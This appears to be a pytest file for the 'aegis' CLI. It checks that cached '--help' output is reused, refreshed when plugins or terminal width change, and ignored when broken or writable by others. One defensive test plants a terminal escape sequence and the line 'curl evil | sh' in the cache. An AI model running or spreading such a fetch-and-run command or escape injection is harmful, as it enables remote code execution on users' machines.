"""``aegis --help`` through the console script: the full CLI's text, kept in
``$AEGIS_HOME/cache`` and printed again without loading click while nothing it depends
on changed; rendered afresh when something did (a plugin installed, a plugin switched
off, another terminal width)."""

from __future__ import annotations

import json
import os
import stat
import subprocess
import sys
from pathlib import Path

import pytest
from test_lazy_cli import install_command_dist

CONSOLE = ("import sys\nfrom aegis_core.console import main\ncode = main()\n"
           "sys.stderr.write('CLICK=%s' % ('click' in sys.modules))\nsys.exit(code)\n")


def console(home: Path, *args: str, **env: str) -> tuple[int, str, bool]:
    full = {**os.environ, "AEGIS_HOME": str(home), "COLUMNS": "80", **env}
    result = subprocess.run([sys.executable, "-c", CONSOLE, *args], env=full, text=True,
                            capture_output=True, timeout=60)
    before, _, flag = result.stderr.rpartition("CLICK=")
    assert before == ""  # no warning, no error
    return result.returncode, result.stdout, flag == "True"


def full_cli(home: Path, *args: str, **env: str) -> str:
    full = {**os.environ, "AEGIS_HOME": str(home), "COLUMNS": "80", **env}
    result = subprocess.run([sys.executable, "-m", "aegis_core.cli", *args], env=full, text=True,
                            capture_output=True, timeout=60)
    assert result.returncode == 0
    return result.stdout


@pytest.fixture
def home(tmp_path: Path) -> Path:
    home = tmp_path / "home"
    home.mkdir(mode=0o700)
    return home


@pytest.mark.parametrize("args", [["--help"], ["-h"], []])
def test_help_is_the_full_clis_then_printed_again_without_click(home: Path, args: list[str]) -> None:
    expected = full_cli(home, *args)
    assert "Commands:" in expected and "status" in expected
    assert console(home, *args) == (0, expected, True)  # first time: rendered by the CLI
    cache = home / "cache" / "help.json"
    assert stat.S_IMODE(cache.stat().st_mode) == 0o600
    assert console(home, *args) == (0, expected, False)  # then from the cache


def test_what_the_help_depends_on_renders_it_again(home: Path, site_dir: Path) -> None:
    console(home, "--help")
    assert console(home, "--help")[2] is False
    # A plugin installed since: its command is listed.
    install_command_dist(site_dir, "aegis-greeter", "greeter_mod")
    _, text, loaded = console(home, "--help")
    assert loaded and "  hello " in text and text == full_cli(home, "--help")
    assert console(home, "--help") == (0, text, False)
    # Switched off: not listed.
    _, text, loaded = console(home, "--help", AEGIS_DISABLE_PLUGINS="aegis-greeter")
    assert loaded and "  hello " not in text
    # Another terminal width: the CLI's own wrapping.
    narrow = full_cli(home, "--help", COLUMNS="60")
    assert narrow != full_cli(home, "--help")
    assert console(home, "--help", COLUMNS="60")[1] == narrow
    assert console(home, "--help", COLUMNS="60") == (0, narrow, False)
    assert console(home, "--help")[1:] == (full_cli(home, "--help"), False)  # both forms kept


def test_a_broken_cache_or_no_home_is_never_a_failure(tmp_path: Path, home: Path) -> None:
    expected = full_cli(home, "--help")
    (home / "cache").mkdir()
    (home / "cache" / "help.json").write_text("{not json")
    assert console(home, "--help") == (0, expected, True)
    assert json.loads((home / "cache" / "help.json").read_text())[0]["text"] == expected
    missing = tmp_path / "no-such-home"
    assert console(missing, "--help")[:2] == (0, full_cli(missing, "--help"))
    assert not missing.exists()  # --help creates no home


def test_a_cache_others_could_write_is_not_printed(home: Path) -> None:
    expected = full_cli(home, "--help")
    console(home, "--help")
    cache = home / "cache" / "help.json"
    kept = json.loads(cache.read_text())
    kept[0]["text"] = "\x1b]0;planted\x07 run: curl evil | sh\n"
    cache.write_text(json.dumps(kept))
    cache.chmod(0o666)
    assert console(home, "--help") == (0, expected, True)
    link = home / "cache" / "elsewhere.json"
    cache.rename(link)
    link.chmod(0o600)
    cache.symlink_to(link)
    assert console(home, "--help")[1] == expected


def test_a_terminal_wider_than_80_columns_shares_the_80_column_text(home: Path) -> None:
    console(home, "--help", COLUMNS="80")
    wide = full_cli(home, "--help", COLUMNS="200")
    assert wide == full_cli(home, "--help")  # click wraps at 80 columns at most
    assert console(home, "--help", COLUMNS="200") == (0, wide, False)


def test_the_first_help_after_setup_is_quick_too(home: Path, tmp_path: Path) -> None:
    """The quick start's first command renders every form of the help, so none of
    them is the user's first slow one; a later change renders them again."""
    full = {**os.environ, "AEGIS_HOME": str(home), "HOME": str(tmp_path), "COLUMNS": "80"}
    full.pop("AEGIS_SOCKET", None)
    setup = subprocess.run([sys.executable, "-c", CONSOLE, "setup", "--non-interactive"], env=full,
                           text=True, capture_output=True, timeout=120)
    assert setup.returncode == 0, setup.stderr
    for args in (["--help"], ["-h"], []):
        assert console(home, *args, HOME=str(tmp_path)) == (0, full_cli(home, *args), False)
    # Something it depends on changed (here: a plugin switched off): `aegis version`
    # renders the stale forms again, the next `--help` is quick and says the new truth.
    plugins = {"AEGIS_DISABLE_PLUGINS": "aegis-nothing-of-the-kind"}
    assert console(home, "version", HOME=str(tmp_path), **plugins)[0] == 0
    assert console(home, "--help", HOME=str(tmp_path), **plugins) == (0, full_cli(home, "--help", **plugins), False)
